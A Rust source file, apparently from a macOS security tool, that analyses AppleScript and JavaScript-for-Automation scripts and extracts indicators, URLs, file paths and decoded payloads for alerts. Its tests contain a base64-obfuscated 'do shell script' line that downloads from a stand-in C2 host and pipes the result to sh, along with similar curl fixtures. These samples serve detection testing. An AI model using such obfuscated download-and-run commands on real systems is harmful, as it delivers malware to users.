//! What the bytes of a script show: pure, and linear in their number.

use std::borrow::Cow;

use super::compiled::{self, Compiled};
use super::workflow::{self, Workflow};
use super::{indicators, places, unpack};
use crate::event::Script;

/// Bytes of what is decoded that an alert holds, of each text and of all.
const MAX_DECODED_TEXT: usize = 2048;
const MAX_DECODED: usize = 4096;

/// What the bytes of a script file show.
pub(super) fn describe(bytes: &[u8], script: &mut Script) {
    let compiled = [(&b"FasdUAS"[..], "AppleScript"), (&b"JsOsaDAS"[..], "JavaScript")];
    if let Some((_, language)) = compiled.into_iter().find(|(magic, _)| bytes.starts_with(magic)) {
        script.is_compiled = true;
        script.language = script.language.or(Some(language));
        describe_compiled(&compiled::read(bytes), script);
        return;
    }
    match workflow::scripts(bytes) {
        Workflow::Scripts(text) => describe_text(&text, script),
        Workflow::TooCostly => {
            script.state = Some("unreadable");
            script.indicators = indicators::of(bytes);
        }
        Workflow::None => match text_of(bytes) {
            Some(text) => describe_text(&text, script),
            None => script.indicators = indicators::of(bytes),
        },
    }
}

/// The text of a file, when it is one: UTF-8, or UTF-16 with its mark, as osascript takes them.
fn text_of(bytes: &[u8]) -> Option<Cow<'_, str>> {
    let units = |pair: fn([u8; 2]) -> u16| {
        let units: Vec<u16> = bytes[2..].chunks_exact(2).map(|unit| pair([unit[0], unit[1]])).collect();
        Some(Cow::Owned(String::from_utf16_lossy(&units)))
    };
    match bytes {
        [0xFE, 0xFF, ..] => units(u16::from_be_bytes),
        [0xFF, 0xFE, ..] => units(u16::from_le_bytes),
        _ if bytes.starts_with(b"bplist") || bytes[..bytes.len().min(Script::MAX_TEXT)].contains(&0) => None,
        _ => Some(String::from_utf8_lossy(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes))),
    }
}

/// What the text of a script shows.
pub(super) fn describe_text(text: &str, script: &mut Script) {
    if let Some(first) = text.lines().next().filter(|first| first.starts_with("#!") && first.contains("osascript")) {
        let is_javascript = first.to_ascii_lowercase().contains("javascript");
        script.language = script.language.or(Some(if is_javascript { "JavaScript" } else { "AppleScript" }));
    }
    let packed = packed_in(text);
    describe_places(std::iter::once(text).chain(packed.iter().map(String::as_str)), script);
    keep_decoded(packed, script);
    let cut = text.floor_char_boundary(Script::MAX_TEXT);
    script.text_left_out = (text.len() - cut) as u64;
    script.text = Some(text[..cut].to_owned());
}

fn packed_in(text: &str) -> Vec<String> {
    unpack::unpack(text).into_iter().map(|unpacked| unpacked.text).collect()
}

/// What a compiled script shows. Words that the compiler puts there are left out of what is shown.
fn describe_compiled(found: &Compiled, script: &mut Script) {
    let all = found.texts.join("\n");
    let packed = packed_in(&all);
    let commands = found.commands.join("\n");
    let texts = [all.as_str(), &commands].into_iter().chain(packed.iter().map(String::as_str));
    describe_places(texts, script);
    script.commands.clone_from(&found.commands);
    let is_shown = |text: &&String| text.len() >= 6 && text.contains([' ', '/', '.', ':', '=']);
    keep_decoded(packed.into_iter().chain(found.texts.iter().filter(is_shown).cloned()), script);
}

/// Indicators, URLs and files of texts.
fn describe_places<'t>(texts: impl Iterator<Item = &'t str> + Clone, script: &mut Script) {
    let mut all: Vec<&'static str> = texts.clone().flat_map(|text| indicators::of(text.as_bytes())).collect();
    indicators::put_in_order(&mut all);
    script.indicators = all;
    for text in texts {
        places::urls(text, &mut script.urls);
        places::files(text, &mut script.files);
    }
}

/// Keeps what an alert can show.
fn keep_decoded(texts: impl IntoIterator<Item = String>, script: &mut Script) {
    let mut left = MAX_DECODED;
    for text in texts {
        let cut = text.floor_char_boundary(left.min(MAX_DECODED_TEXT));
        if cut == 0 {
            break;
        }
        left -= cut;
        script.decoded.push(text[..cut].to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn described(bytes: &[u8]) -> Script {
        let mut script = Script::default();
        describe(bytes, &mut script);
        script
    }

    #[test]
    fn a_property_list_that_costs_too_much_is_marked_and_its_bytes_still_tell() {
        let nested = ["<plist>", &"<array>".repeat(500_000), "do shell script \"curl x\""].concat();
        let found = described(nested.as_bytes());
        assert_eq!((found.state, found.text), (Some("unreadable"), None));
        assert_eq!(found.indicators, ["do shell script", "curl"]);
    }

    #[test]
    fn what_a_script_hides_is_shown_beside_it_with_its_indicators_and_places() {
        let text = "do shell script \"echo Y3VybCAtcyBodHRwczovL2MyLmV4YW1wbGUub3JnL3ggPiAvdG1wL3g= | base64 -d | sh\"";
        let found = described(text.as_bytes());
        assert_eq!(found.text.as_deref(), Some(text));
        assert_eq!(found.decoded, ["curl -s https://c2.example.org/x > /tmp/x"]);
        assert_eq!(found.urls, ["https://c2.example.org/x"]);
        assert_eq!(found.files, ["/tmp/x"]);
        assert_eq!(found.indicators, ["do shell script", "curl", "base64"]);
    }

    #[test]
    fn a_compiled_script_tells_its_constants_and_commands() {
        let mut bytes = b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff\xff\xfe\x00\x01".to_vec();
        bytes.extend("curl https://c2.example.org/x".encode_utf16().flat_map(u16::to_be_bytes));
        bytes.extend_from_slice(b"\x00\x01\x0asysoexecTEXT\x00\x00");
        let found = described(&bytes);
        assert!(found.is_compiled && found.text.is_none());
        assert_eq!(found.indicators, ["do shell script", "curl"]);
        assert_eq!(found.urls, ["https://c2.example.org/x"]);
        assert_eq!(found.commands, ["do shell script"]);
        assert!(found.decoded.iter().any(|text| text == "curl https://c2.example.org/x"), "{:?}", found.decoded);
    }

    #[test]
    fn a_script_in_utf_16_is_read_as_text() {
        for (mark, pair) in [(0xFEFF, u16::to_be_bytes as fn(u16) -> [u8; 2]), (0xFEFF, u16::to_le_bytes)] {
            let units = std::iter::once(mark).chain("display dialog \"é\"".encode_utf16());
            let found = described(&units.flat_map(pair).collect::<Vec<u8>>());
            assert_eq!(found.text.as_deref(), Some("display dialog \"é\""));
            assert_eq!(found.indicators, ["display dialog"]);
        }
    }
}
